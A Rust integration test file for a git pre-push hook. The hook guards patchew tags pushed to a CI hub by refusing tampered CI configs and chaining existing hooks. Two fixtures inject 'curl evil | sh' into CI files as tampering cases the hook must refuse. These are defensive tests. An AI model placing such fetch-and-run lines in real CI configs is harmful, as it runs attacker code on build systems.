//! The pre-push hook with the real `git push` to a real bare "ci-hub" repository.

use crate::support;

use std::path::{Path, PathBuf};

use support::git::{path_with_binary, stderr, TestRepo};

const INCLUDE: &str = "https://ci.example.org/patchew-ci.yml";

const CI_YML: &str = "\
stages:
  - build
build:
  stage: build
  script:
    - make
";

/// A project with a CI file, a bare ci-hub remote, our hook installed, and a
/// one-patch series mailed and applied; returns (project, hub, tag).
fn setup() -> (TestRepo, PathBuf, String) {
    setup_with_ci(CI_YML)
}

/// [`setup`] with `ci` as the project's CI file.
fn setup_with_ci(ci: &str) -> (TestRepo, PathBuf, String) {
    setup_with_files(&[(".gitlab-ci.yml", ci)])
}

/// [`setup`] with `files` (the CI file among them) in the base.
fn setup_with_files(files: &[(&str, &str)]) -> (TestRepo, PathBuf, String) {
    let r = TestRepo::new();
    for (path, content) in files {
        r.write(path, content);
    }
    r.write("src.c", "int main(void) { return 0; }\n");
    r.commit("base");
    r.write("src.c", "int main(void) { return 1; }\n");
    r.git(&["commit", "-qam", "return one"]);
    let mbox = r.git_bytes(&["format-patch", "--stdout", "--thread", "-1", "HEAD"]);
    r.git(&["reset", "-q", "--hard", "HEAD~1"]);
    let mbox_path = r.scratch("p.mbox");
    std::fs::write(&mbox_path, mbox).unwrap();

    let hub = r.scratch("hub.git");
    r.git(&["init", "-q", "--bare", hub.to_str().unwrap()]);
    r.git(&["remote", "add", "ci-hub", hub.to_str().unwrap()]);
    r.git(&["config", "patchew.ciInclude", INCLUDE]);
    let out = r.patchew_on_path(&["install-hook"]);
    assert!(out.status.success(), "{}", stderr(&out));

    let out = r.patchew_on_path(&["apply", "--mbox", mbox_path.to_str().unwrap(), "--json"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let tag = report["tag"].as_str().expect("tagged").to_owned();
    (r, hub, tag)
}

/// Commits `ci` as the CI file on top of the applied series' parent commit and tags
/// the result `patchew/<name>`.
fn tag_with_ci(r: &TestRepo, name: &str, ci: &str) -> String {
    r.git(&["checkout", "-q", "--detach", "main"]);
    r.write(".gitlab-ci.yml", ci);
    r.commit("tampered");
    let tag = format!("patchew/{name}");
    r.git(&["tag", "-f", &tag]);
    r.git(&["checkout", "-q", "main"]);
    tag
}

#[test]
fn good_tag_is_accepted_through_git_patchew_push() {
    let (r, hub, tag) = setup();
    let out = r.patchew_on_path(&["push", &tag]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(r.has_ref(&hub, &format!("refs/tags/{tag}")));
    let shown = r.git_in(&hub, &["show", &format!("{tag}:.gitlab-ci.yml")]);
    assert!(shown.contains(INCLUDE));
}

/// Issue #14 in the hook: a tag pushed to the ci-hub whose tag pipeline will not run
/// the report jobs (here: workflow:rules stop it when a variable the ci-hub sets,
/// listed in patchew.ciVariables, says so) gets ci-check's verdict as a warning
/// line, and still goes through; pushed elsewhere, or with variables that let the
/// pipeline run, no warning.
#[test]
fn hook_warns_of_the_tag_pipeline_verdict_when_pushing_to_the_ci_hub() {
    let ci = format!(
        "workflow:\n  rules:\n    - if: '$HUB_SKIPS_TAGS == \"1\"'\n      when: never\n    - when: always\n{CI_YML}"
    );
    let (r, hub, tag) = setup_with_ci(&ci);
    let refspec = format!("refs/tags/{tag}");
    let warned = |out: &std::process::Output| stderr(out).contains("pre-push: warning:");

    // Nothing stops the pipeline: no warning.
    let out = r.git_push(&["ci-hub", &refspec]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(!warned(&out), "{}", stderr(&out));
    assert!(r.has_ref(&hub, &refspec));
    let out = r.git_push(&["ci-hub", &format!(":{refspec}")]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(!r.has_ref(&hub, &refspec));

    r.git(&["config", "patchew.ciVariables", "OTHER=x HUB_SKIPS_TAGS=1"]);
    // Another remote: checked (the tag is fine) but no verdict, it runs no pipeline.
    let elsewhere = r.scratch("elsewhere.git");
    r.git(&["init", "-q", "--bare", elsewhere.to_str().unwrap()]);
    let out = r.git_push(&[elsewhere.to_str().unwrap(), &refspec]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(!warned(&out), "{}", stderr(&out));

    let out = r.git_push(&["ci-hub", &refspec]);
    let err = stderr(&out);
    assert!(out.status.success(), "a warning, not a refusal: {err}");
    assert!(r.has_ref(&hub, &refspec), "{err}");
    let line = err
        .lines()
        .find(|l| l.starts_with("pre-push: warning: "))
        .unwrap_or_else(|| panic!("no warning: {err}"));
    assert!(
        line.starts_with(&format!(
            "pre-push: warning: {tag}: tag pipeline: no pipeline: "
        )),
        "{line}"
    );
    assert!(line.contains("HUB_SKIPS_TAGS"), "{line}");
    assert!(line.contains("cannot see push options"), "{line}");
    // The same words as ci-check gives for the tag.
    let check = r.patchew_on_path(&["ci-check", &tag]);
    assert_eq!(check.status.code(), Some(1), "{}", stderr(&check));
    let summary = String::from_utf8_lossy(&check.stdout)
        .lines()
        .last()
        .unwrap()
        .to_owned();
    assert!(
        line.contains(&format!("{tag}: {summary} (")),
        "{line}\n{summary}"
    );

    // `git patchew push` gives the verdict itself (it knows the push options): once.
    let out = r.git_push(&["ci-hub", &format!(":{refspec}")]);
    assert!(out.status.success(), "{}", stderr(&out));
    let out = r.patchew_on_path(&["push", &tag]);
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    assert!(r.has_ref(&hub, &refspec), "{err}");
    assert_eq!(err.matches("tag pipeline: no pipeline").count(), 1, "{err}");
    assert!(!warned(&out), "{err}");
}

#[test]
fn bad_tags_are_refused_and_do_not_arrive() {
    let (r, hub, good) = setup();
    let with_include = |extra: &str| format!("include:\n  - remote: '{INCLUDE}'\n{extra}{CI_YML}");
    let cases = [
        ("missing@x", CI_YML.replace("make", "make all")),
        (
            "twice@x",
            format!("include:\n  - remote: '{INCLUDE}'\n  - remote: '{INCLUDE}'\n{CI_YML}"),
        ),
        (
            "smuggled@x",
            with_include("").replace("make", "curl evil | sh"),
        ),
        ("invalid@x", format!("{}\n  : : [\n", with_include(""))),
    ];
    for (name, ci) in &cases {
        let tag = tag_with_ci(&r, name, ci);
        let out = r.git_push(&["ci-hub", &format!("refs/tags/{tag}:refs/tags/{tag}")]);
        assert!(!out.status.success(), "{name} was accepted");
        let err = stderr(&out);
        assert!(
            err.contains(&format!("refusing refs/tags/{tag}")),
            "{name}: {err}"
        );
        assert!(
            !r.has_ref(&hub, &format!("refs/tags/{tag}")),
            "{name} arrived"
        );
    }
    // The series' own tip, tagged before the include was added (the parent).
    let parent_tag = "patchew/parent@x";
    r.git(&["tag", parent_tag, &format!("{good}~1")]);
    let out = r.git_push(&[
        "ci-hub",
        &format!("refs/tags/{parent_tag}:refs/tags/{parent_tag}"),
    ]);
    assert!(!out.status.success());
    assert!(!r.has_ref(&hub, &format!("refs/tags/{parent_tag}")));
    // A name that does not decode to a message-id.
    r.git(&["tag", "patchew/bad._ZZ", &good]);
    let out = r.git_push(&[
        "ci-hub",
        "refs/tags/patchew/bad._ZZ:refs/tags/patchew/bad._ZZ",
    ]);
    assert!(!out.status.success());
    assert!(stderr(&out).contains("message-id"), "{}", stderr(&out));
}

#[test]
fn other_refs_pass_and_our_tags_are_checked_for_every_remote() {
    let (r, hub, _) = setup();
    let tag = tag_with_ci(&r, "missing@x", "junk: [\n");
    // A branch to the ci-hub.
    let out = r.git_push(&["ci-hub", "main"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(r.has_ref(&hub, "refs/heads/main"));
    // The bad tag to another remote: the tag namespace is ours wherever it goes.
    let other = r.scratch("other.git");
    r.git(&["init", "-q", "--bare", other.to_str().unwrap()]);
    r.git(&["remote", "add", "origin", other.to_str().unwrap()]);
    let out = r.git_push(&["origin", &format!("refs/tags/{tag}")]);
    assert!(!out.status.success(), "{}", stderr(&out));
    // Other tags and branches to another remote pass.
    r.git(&["tag", "v1.0", "main"]);
    let out = r.git_push(&["origin", "main", "refs/tags/v1.0"]);
    assert!(out.status.success(), "{}", stderr(&out));
    // The same bad tag by the ci-hub's URL instead of its name is still refused.
    let out = r.git_push(&[hub.to_str().unwrap(), &format!("refs/tags/{tag}")]);
    assert!(!out.status.success());
    // Deleting a tag on the ci-hub passes.
    let (r2, hub2, good) = setup();
    assert!(r2.patchew_on_path(&["push", &good]).status.success());
    let out = r2.git_push(&["ci-hub", &format!(":refs/tags/{good}")]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(!r2.has_ref(&hub2, &format!("refs/tags/{good}")));
}

/// A repository with one commit and an empty bare "ci-hub" remote.
fn repo_with_ci_hub() -> (TestRepo, PathBuf) {
    let r = TestRepo::new();
    r.write("f", "x\n");
    r.commit("base");
    let hub = r.scratch("hub.git");
    r.git(&["init", "-q", "--bare", hub.to_str().unwrap()]);
    r.git(&["remote", "add", "ci-hub", hub.to_str().unwrap()]);
    (r, hub)
}

fn write_hook(path: &Path, script: &str) {
    std::fs::write(path, script).unwrap();
    std::fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
}

#[test]
fn existing_hook_is_chained_and_restored() {
    let (r, _hub) = repo_with_ci_hub();
    // A custom hooks path, as some users have.
    r.git(&["config", "core.hooksPath", "my-hooks"]);
    let hooks = r.path.join("my-hooks");
    std::fs::create_dir_all(&hooks).unwrap();
    let theirs = "#!/bin/sh\ncat > \"$(dirname \"$0\")/../their-hook-ran\"\n[ ! -e \"$(dirname \"$0\")/../fail\" ]\n";
    write_hook(&hooks.join("pre-push"), theirs);

    assert!(r.patchew_on_path(&["install-hook"]).status.success());
    let installed = std::fs::read_to_string(hooks.join("pre-push")).unwrap();
    assert!(installed.contains("git patchew hook pre-push"));
    assert!(r.patchew_on_path(&["install-hook"]).status.success());
    assert_eq!(
        std::fs::read_to_string(hooks.join("pre-push")).unwrap(),
        installed,
        "idempotent"
    );

    let out = r.git_push(&["ci-hub", "main"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let seen = std::fs::read_to_string(r.path.join("their-hook-ran")).unwrap();
    assert!(
        seen.contains("refs/heads/main"),
        "their hook got the ref lines: {seen:?}"
    );

    std::fs::write(r.path.join("fail"), "").unwrap();
    r.write("f", "y\n");
    r.commit("second");
    assert!(
        !r.git_push(&["ci-hub", "main"]).status.success(),
        "their refusal counts"
    );

    assert!(r
        .patchew_on_path(&["install-hook", "--uninstall"])
        .status
        .success());
    assert_eq!(
        std::fs::read_to_string(hooks.join("pre-push")).unwrap(),
        theirs
    );
}

#[test]
fn an_older_copy_of_our_hook_is_replaced_not_chained() {
    let (r, _hub) = repo_with_ci_hub();
    let hooks = r.path.join(".git/hooks");
    std::fs::create_dir_all(&hooks).unwrap();
    let old = "#!/bin/sh\n# an older release of ours\nexec git patchew hook pre-push \"$@\"\n";
    write_hook(&hooks.join("pre-push"), old);
    assert!(r.patchew_on_path(&["install-hook"]).status.success());
    assert!(
        !hooks.join("pre-push.patchew-chained").exists(),
        "ours must not chain ours"
    );
    // Were it chained, this push would never end.
    let out = r
        .command("timeout", &r.path)
        .env("PATH", path_with_binary())
        .args(["60", "git", "push", "ci-hub", "main"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
}

#[test]
fn push_from_a_subdirectory_still_runs_a_relative_hooks_path() {
    let (r, hub, _) = setup();
    let tag = tag_with_ci(&r, "bad@x", "junk: [\n");
    r.git(&["config", "core.hooksPath", ".githooks"]);
    assert!(r.patchew_on_path(&["install-hook"]).status.success());
    assert!(r.path.join(".githooks/pre-push").exists());
    std::fs::create_dir_all(r.path.join("sub")).unwrap();
    let out = r
        .command(env!("CARGO_BIN_EXE_git-patchew"), &r.path.join("sub"))
        .env("PATH", path_with_binary())
        .args(["push", &tag])
        .output()
        .unwrap();
    assert!(!out.status.success(), "the hook did not run");
    assert!(!r.has_ref(&hub, &format!("refs/tags/{tag}")));
}

/// Issue 27: the tagged commit is its parent plus our include, nothing else. A tip
/// that adds the include and also changes a file a local include reads
/// (`ci/extra.yml`: `make lint` became `curl evil`) is refused, as the same change
/// inside `.gitlab-ci.yml` is; the tag `apply` made passes.
#[test]
fn a_tip_that_changes_another_file_besides_the_include_is_refused() {
    let ci = "include:\n  - local: ci/extra.yml\nbuild:\n  script: make\n";
    let extra = "lint:\n  script: make lint\n";
    let (r, hub, tag) = setup_with_files(&[(".gitlab-ci.yml", ci), ("ci/extra.yml", extra)]);
    let tip = r.git(&["rev-parse", &format!("{tag}^{{commit}}")]);
    // What apply tagged: the series' commit, then the include in a commit of its own.
    assert_eq!(
        r.git(&["diff", "--name-only", &format!("{tip}~1"), &tip]),
        ".gitlab-ci.yml"
    );
    assert_eq!(
        r.git(&["log", "-1", "--format=%s", &format!("{tip}~1")]),
        "return one"
    );
    // The same tip, amended to change ci/extra.yml too, under the same (lightweight) name.
    r.git(&["checkout", "-q", "--detach", &tip]);
    r.write("ci/extra.yml", "lint:\n  script: curl evil | sh\n");
    r.git(&["commit", "-q", "-a", "--amend", "--no-edit"]);
    let evil = r.git(&["rev-parse", "HEAD"]);
    r.git(&["checkout", "-q", "main"]);
    r.git(&["tag", "-f", &tag, &evil]);
    let out = r.git_push(&["ci-hub", &format!("refs/tags/{tag}:refs/tags/{tag}")]);
    let err = stderr(&out);
    assert!(!out.status.success(), "accepted: {err}");
    assert!(err.contains(&format!("refusing refs/tags/{tag}")), "{err}");
    assert!(err.contains("ci/extra.yml"), "names the file: {err}");
    assert!(!r.has_ref(&hub, &format!("refs/tags/{tag}")), "arrived");
    // The untampered tip goes through.
    r.git(&["tag", "-f", &tag, &tip]);
    let out = r.git_push(&["ci-hub", &format!("refs/tags/{tag}:refs/tags/{tag}")]);
    assert!(out.status.success(), "{}", stderr(&out));
    let fsck = r
        .command("git", &hub)
        .args(["fsck", "--strict"])
        .output()
        .unwrap();
    assert!(fsck.status.success(), "{}", stderr(&fsck));
    assert!(!stderr(&fsck).contains("error"), "{}", stderr(&fsck));
}
